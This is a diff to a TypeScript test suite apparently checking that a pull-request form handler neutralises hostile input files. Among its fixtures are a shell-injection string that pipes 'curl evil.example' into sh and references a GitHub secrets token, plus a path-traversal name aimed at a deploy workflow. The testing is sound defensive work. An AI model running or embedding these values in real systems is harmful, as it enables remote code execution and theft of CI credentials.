@@ -76,23 +76,23 @@ describe('a hostile record in a pull request', () => {
 
 /** What becomes of each form of the corpus: part of what is said, or the name in the record that holds it as mere text. */
 const BECOMES: Record<string, { said: string } | { name: string }> = {
-  'case-details.md': { said: 'personal-details' },
-  'data-link.md': { said: 'web-address' },
+  'case-details.md': { said: 'the directory holds no details of people or cases' },
+  'data-link.md': { said: 'Write it whole, beginning with https://' },
   'empty.md': { said: 'a person has to read it' },
   'heading-in-answer.md': { said: '"Does it run, as far as a page or report shows?" stands twice' },
-  'html.md': { said: 'html' },
-  'javascript-link.md': { said: 'web-address' },
+  'html.md': { said: 'which is HTML or Markdown' },
+  'javascript-link.md': { said: 'which is not a web address' },
   'mention.md': { name: 'New Page' },
   'name-without-letters.md': { said: 'holds no letter or figure' },
   'not-a-form.md': { said: 'a person has to read it' },
   'path-in-entry.md': { said: 'is no entry of the directory' },
   'path-in-name.md': { name: '../../.github/workflows/deploy' },
   'prototype.md': { said: 'is no entry of the directory' },
-  'right-to-left.md': { said: 'hidden-character' },
+  'right-to-left.md': { said: 'invisible character' },
   'shell-in-answer.md': { name: `$(curl evil.example | sh) \`id\` \${{ secrets.GITHUB_TOKEN }}"; exit 1 #` },
   'unknown-heading.md': { name: 'New Page' },
   'yaml-in-answer.md': { name: 'New Page status: {state: operational} <<: *a' },
-  'zero-width.md': { said: 'hidden-character' },
+  'zero-width.md': { said: 'invisible character' },
 };
 
 describe('a hostile form', () => {
